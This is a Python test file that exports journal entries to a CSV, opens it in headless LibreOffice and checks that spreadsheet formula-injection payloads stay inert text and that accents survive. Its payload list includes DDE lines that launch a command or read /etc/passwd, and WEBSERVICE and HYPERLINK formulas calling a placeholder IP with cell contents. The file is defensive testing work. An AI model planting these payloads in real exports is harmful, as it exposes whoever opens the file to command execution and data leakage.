"""`extrait.csv` opened by LibreOffice for real: hostile entries stay text, and accents stay what they are (X-09)."""

from __future__ import annotations

import subprocess
from itertools import product
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import pytest

from journal.core.entry import parse_record
from journal.extract import table
from tests.support.extracts import World, march, noon

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

pytestmark = [pytest.mark.campaign, pytest.mark.needs("soffice")]

# Semicolons, quotation marks, UTF-8, from the first line on; numbers recognised, formulas evaluated: as forward as
# the program can be.
FILTER = "Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,-1,true"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
SUBJECT, REASON = table.COLUMNS.index("objet"), table.COLUMNS.index("motif")

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    '=HYPERLINK("http://192.0.2.1/"&A1;"x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://192.0.2.1/")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "\uff1d1+1",
    "\u22121",
)
LEADS = ("", " ", "\u00a0", "\t", "\n", "\r\n", '"', "'", ";", ',"', "x;", "\u200b")
PAYLOADS = ["".join(pair) for pair in product(LEADS, FORMULAS)][:110]
ACCENTS = "éèêëàâäîïôöùûüÿçœæÉÈÀÇŒ «N° 12» — l’été à Nîmes, 12 €"


def opened(path: Path, table: bytes) -> list[list[tuple[str | None, str]]]:
    """Return the cells of a table as LibreOffice has them once opened: formula, if it is one, and text shown."""
    path.joinpath("extrait.csv").write_bytes(table)
    command = ["soffice", f"-env:UserInstallation=file://{path}/profile", "--headless", "--convert-to", "fods"]
    command += [f"--infilter={FILTER}", "--outdir", str(path), str(path / "extrait.csv")]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    rows = []
    for row in ET.parse(path / "extrait.fods").iter(f"{TABLE}table-row"):
        cells: list[tuple[str | None, str]] = []
        for cell in row.iter(f"{TABLE}table-cell"):
            shown = "\n".join("".join(text.itertext()) for text in cell.iter(f"{TEXT}p"))
            count = int(cell.get(f"{TABLE}number-columns-repeated", "1"))
            cells += [(cell.get(f"{TABLE}formula"), shown)] * min(count, 100)
        rows.append(cells)
    return rows


def table_of(texts: Sequence[str]) -> bytes:
    """Return the table of entries that hold each text, in two cells."""
    world = World()
    for number, text in enumerate(texts):
        data = {"actor": {"account": "a"}, "justification": f"{text}", "outcome": "success"}
        world.append(noon(march(2), seconds=number), subject=text, data=data)
    return table.HEADER + b"".join(table.row(parse_record(record)) for record in world.records)


def test_the_program_would_evaluate_what_is_not_guarded(tmp_path: Path) -> None:
    """Else the next test would prove nothing."""
    cells = opened(tmp_path, b'\xef\xbb\xbf"a";"b"\r\n"=1+1";"=1+2"\r\n')
    assert [shown for formula, shown in cells[1][:2] if formula] == ["2", "3"]


def test_no_hostile_text_is_evaluated(tmp_path: Path) -> None:
    """A hundred and more payloads: none is a formula once opened, each in one cell, its line not torn."""
    assert len(PAYLOADS) >= 100
    rows = opened(tmp_path, table_of(PAYLOADS))[: len(PAYLOADS) + 1]
    assert [shown for _, shown in rows[0][: len(table.COLUMNS)]] == list(table.COLUMNS)
    for payload, cells in zip(PAYLOADS, rows[1:], strict=True):
        assert all(formula is None for formula, _ in cells), payload
        for column in (SUBJECT, REASON):
            shown = cells[column][1]
            # What it says is all there, among apostrophes and signs for what cannot be seen.
            said = table.visible(payload).replace("'", "")
            assert shown.replace("'", "").endswith(said[-3:]), (payload, shown)


def test_accents_are_right(tmp_path: Path) -> None:
    """In the names of the columns and in what people wrote."""
    rows = opened(tmp_path, table_of([ACCENTS]))
    assert rows[1][SUBJECT] == (None, ACCENTS)
    assert rows[1][REASON] == (None, ACCENTS)
    assert rows[0][1] == (None, "enregistré le")
